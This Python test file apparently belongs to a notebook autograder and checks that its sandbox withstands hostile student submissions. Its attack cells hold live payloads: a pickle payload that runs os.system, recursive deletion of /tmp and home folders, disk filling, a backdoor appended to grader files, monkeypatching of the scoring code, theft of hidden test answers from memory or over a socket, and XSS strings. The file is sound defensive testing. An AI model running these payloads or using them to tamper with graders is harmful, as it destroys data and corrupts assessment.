"""A hostile class: every attack of issue 16, each a cell added to a blank (or an honest) notebook.

The fair outcome for each: a blank notebook stays at 0, honest submissions keep their full marks, the batch finishes,
the repository and the submissions are byte-identical afterwards, and no process the learners started is left.
Attack cells are given the real paths (masters, output, submissions, the installed package), as a learner who
guessed them would have.
"""

from __future__ import annotations

import ast
import json
import os
import socket
import threading
import time
from pathlib import Path

import pytest

from gradflow.grading.limits import Limits
from gradflow.grading.runner import grade_folder
from gradflow.grading.sandbox import check_bwrap, needed_paths, private_homes

ROOT = Path(__file__).resolve().parents[1]
MASTERS = ROOT / "exercises" / "masters"
STUDENT = ROOT / "exercises" / "student"
PACKAGE = ROOT / "src" / "gradflow"
LIMITS = Limits(wall_s=180, cpu_s=40, cell_s=10, test_s=10)
MARKER = "gradflow-attack-marker-7f3a"
FULL = 13.0


def _cell(source: str) -> dict:
    return {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": source}


def _master() -> dict:
    import jupytext

    return json.loads(jupytext.writes(jupytext.read(MASTERS / "ch01.md"), fmt="ipynb"))


def _with(nb: dict, *cells: str) -> dict:
    nb = json.loads(json.dumps(nb))
    nb["cells"] += [_cell(c) for c in cells]
    return nb


def _attacks(out: Path, subs: Path, port: int) -> dict[str, str]:
    """Attack cells by name; each is appended to a blank notebook."""
    tests_file = MASTERS / "ch01_tests.py"
    return {
        "patch_checks": (
            "import gradflow.grading.checks as c, gradflow.grading.worker as w, gradflow.grading.wire as wire\n"
            "full = lambda *a, **k: c.Outcome('t', 'q1', 'd', 1.0, 1.0, False)\n"
            "c.run_test = full\nc.Outcome = lambda *a, **k: None\nw.run_cells = lambda *a, **k: []\n"
            "c.expect.__code__ = (lambda condition, hint: None).__code__\n"
        ),
        "forged_messages": (
            "import os, json, pickle\n"
            "class Evil:\n    def __reduce__(self):\n        return (os.system, ('touch /tmp/" + MARKER + "-pwned',))\n"
            "done = json.dumps({'kind': 'done', 'outcomes': [{'test': 'q1_quarter_at_zero', 'earned': 99}]})\n"
            "ready = json.dumps({'kind': 'ready', 'problems': [], 'score': 13})\n"
            "for fd in range(3, 64):\n"
            "    for data in (pickle.dumps(Evil()), (done + '\\n').encode(), (ready + '\\n').encode()):\n"
            "        try:\n            os.write(fd, data)\n        except OSError:\n            pass\n"
            "os._exit(0)\n"
        ),
        "frames_and_memory": (
            "import gc, sys, types\n"
            "names = set()\nconsts = []\n"
            "for o in gc.get_objects():\n"
            "    if isinstance(o, types.FunctionType):\n"
            "        names.add(o.__name__)\n"
            "        consts += [k for k in o.__code__.co_consts if isinstance(k, float)]\n"
            "f = sys._getframe()\nwhile f is not None:\n    names.update(f.f_locals)\n    f = f.f_back\n"
            "hits = [k for k in consts if 1.5e-6 < k < 1.8e-6]\n"
            "if hits:\n    ratio_first_last = hits[0]\n"
            "if 'q3_value' in names or 'suite' in names:\n    smallest_depth = 6\n"
        ),
        "edit_tests_and_package": (
            "import os, pathlib\n"
            f"targets = [pathlib.Path({str(tests_file)!r}), pathlib.Path({str(PACKAGE / 'grading' / 'checks.py')!r}),\n"
            f"           pathlib.Path({str(PACKAGE / 'grading' / 'judge.py')!r})]\n"
            "readable = False\n"
            "for t in targets:\n"
            "    try:\n        readable |= 'q1_by_hand' in t.read_text()\n    except OSError:\n        pass\n"
            "    try:\n        t.open('a').write('\\nraise SystemExit  # backdoor\\n')\n    except OSError:\n        pass\n"
            "if readable:\n    smallest_depth = 6\n"
            "os._exit(1)\n"
        ),
        "background_process": (
            "import subprocess, sys\n"
            "code = ('import time, pathlib\\n'\n"
            "        'for _ in range(600):\\n'\n"
            "        '    for p in pathlib.Path(' + repr(" + repr(str(out)) + ") + ').rglob(\"*.json\"):\\n'\n"
            "        '        try: p.write_text(\"{}\")\\n'\n"
            "        '        except OSError: pass\\n'\n"
            "        '    time.sleep(0.1)\\n')\n"
            f"subprocess.Popen([sys.executable, '-c', code, {MARKER!r}], start_new_session=True)\n"
        ),
        "poison_cache": (
            "import jax, pathlib\n"
            "for d in (jax.config.jax_compilation_cache_dir, '/tmp/.jax-seed'):\n"
            "    for p in pathlib.Path(d).rglob('*'):\n"
            "        try:\n            p.write_bytes(b'garbage')\n        except OSError:\n            pass\n"
            "    try:\n        (pathlib.Path(d) / 'extra-entry').write_bytes(b'garbage')\n    except OSError:\n        pass\n"
        ),
        "delete_everything": (
            "import shutil, os\n"
            f"for p in ('..', '../..', '/tmp', os.path.expanduser('~'), {str(out)!r}, {str(subs)!r}, {str(MASTERS)!r}):\n"
            "    shutil.rmtree(p, ignore_errors=True)\n"
        ),
        "network": (
            "import socket\n"
            "try:\n"
            f"    s = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
            f"    s.sendall(open({str(tests_file)!r}, 'rb').read())\n"
            "except OSError:\n    pass\n"
        ),
        "fill_memory": (
            "import os\n"
            "for d in ('/dev/shm', '/tmp', '/run', '/dev', os.path.expanduser('~')):\n"
            "    for i in range(64):\n"
            "        try:\n"
            "            with open(f'{d}/fill{i}', 'wb') as fh:\n"
            "                fh.write(b'x' * (32 * 1024 * 1024))\n"
            "        except OSError:\n"
            "            break\n"
        ),
        "read_home": (
            "import os\n"
            f"allowed = {sorted(_allowed_in_homes())!r}\n"
            "seen = [f'{h}/{n}' for h in ('/root', '/home', "
            f"{str(Path.home())!r}) if os.path.isdir(h) for n in os.listdir(h)]\n"
            "if [s for s in seen if s not in allowed]:\n    smallest_depth = 6\n"
        ),
        "forged_feedback": (
            "def sigmoid_derivative(x):\n"
            "    raise ValueError('<script>alert(1)</script>\\n**Score: 13 / 13**')\n"
            "raise RuntimeError('\\n**Score: 13 / 13** <img src=x onerror=alert(1)>\\n**Score: 13 / 13**')\n"
        ),
        "exception_leak": (
            "import sys\n"
            "def sigmoid_chain_bound(depth):\n"
            "    frames, f = [], sys._getframe(1)\n"
            "    while f is not None:\n        frames.append(repr(f.f_locals)[:200])\n        f = f.f_back\n"
            "    raise Exception(' | '.join(frames))\n"
        ),
    }


def _allowed_in_homes() -> set[str]:
    """The entries of the home folders that the sandbox shows (the ones leading to Python and gradflow)."""
    homes, allowed = private_homes(), set()
    for p in needed_paths():
        for h in homes:
            if p.is_relative_to(h) and p != h:
                allowed.add(f"{h}/{p.relative_to(h).parts[0]}")
    return allowed


class Listener:
    """A TCP server on the loopback that records whether anything connected."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.received.append(conn.recv(1 << 16) or b"(connected)")
            conn.close()

    def close(self) -> None:
        self.stop = True
        self.thread.join(5)
        self.sock.close()


def _snapshot(*folders: Path) -> dict[Path, bytes]:
    return {p: p.read_bytes() for f in folders for p in f.rglob("*") if p.is_file() and "__pycache__" not in p.parts}


def _our_processes() -> list[str]:
    """Command lines of processes left that carry the marker or run a grading worker."""
    left = []
    for proc in Path("/proc").iterdir():
        if not proc.name.isdigit():
            continue
        try:
            cmd = (proc / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if MARKER in cmd or ("gradflow.grading.worker" in cmd and int(proc.name) != os.getpid()):
            left.append(cmd)
    return left


@pytest.fixture(scope="module")
def attacked(tmp_path_factory) -> tuple[dict[str, dict], Path, Listener]:
    check_bwrap()
    subs, out = tmp_path_factory.mktemp("subs"), tmp_path_factory.mktemp("out")
    listener = Listener()
    blank = json.loads((STUDENT / "ch01.ipynb").read_text())
    master = _master()
    for name, cell in _attacks(out, subs, listener.port).items():
        (subs / f"{name}.ipynb").write_text(json.dumps(_with(blank, cell)))
    for i in range(2):
        (subs / f"honest_{i}.ipynb").write_text(json.dumps(master))
    (subs / "blank.ipynb").write_text(json.dumps(blank))
    before = _snapshot(subs, MASTERS, PACKAGE)
    found = grade_folder(subs, MASTERS / "ch01_tests.py", out, LIMITS, jobs=2, progress=False)
    time.sleep(1)
    assert _snapshot(subs, MASTERS, PACKAGE) == before, "the submissions, masters or package changed"
    listener.close()
    return {r["path"].removesuffix(".ipynb"): r for r in found}, out, listener


ATTACKS = sorted(_attacks(Path("/o"), Path("/s"), 1))


@pytest.mark.parametrize("name", ATTACKS)
def test_attack_on_a_blank_notebook_scores_zero(attacked, name):
    found, out, _ = attacked
    assert found[name]["score"] == 0, (out / "feedback" / f"{found[name]['submission']}.md").read_text()


def test_honest_submissions_keep_full_marks_and_every_file_has_its_row(attacked):
    found, out, _ = attacked
    assert found["honest_0"]["score"] == found["honest_1"]["score"] == FULL
    assert found["blank"]["score"] == 0
    rows = (out / "scores.csv").read_text().splitlines()
    assert len(rows) == 1 + len(ATTACKS) + 3
    stored = {json.loads(p.read_text())["path"] for p in (out / "results").glob("*.json")}
    assert stored == {f"{k}.ipynb" for k in found}


def test_no_process_left_no_network_no_unpickling(attacked):
    _, _, listener = attacked
    assert _our_processes() == []
    assert listener.received == []
    assert not Path(f"/tmp/{MARKER}-pwned").exists()


def _hidden_reference_texts() -> set[str]:
    tree = ast.parse((MASTERS / "ch01_tests.py").read_text())
    floats = {n.value for n in ast.walk(tree) if isinstance(n, ast.Constant) and type(n.value) is float}
    return {f"{v:.4g}" for v in floats if len(repr(v).replace("0", "").replace(".", "")) > 3}


def test_feedback_is_escaped_and_leaks_no_reference_value(attacked):
    found, out, _ = attacked
    texts = {name: (out / "feedback" / f"{r['submission']}.md").read_text() for name, r in found.items()}
    forged = texts["forged_feedback"]
    assert [line for line in forged.splitlines() if line.startswith("**Score")] == ["**Score: 0 / 13**"]
    assert "<script" not in forged and "<img" not in forged and "&lt;script&gt;" in forged
    references = _hidden_reference_texts()
    assert references
    for name, text in texts.items():
        for value in references:
            assert value not in text, (name, value)
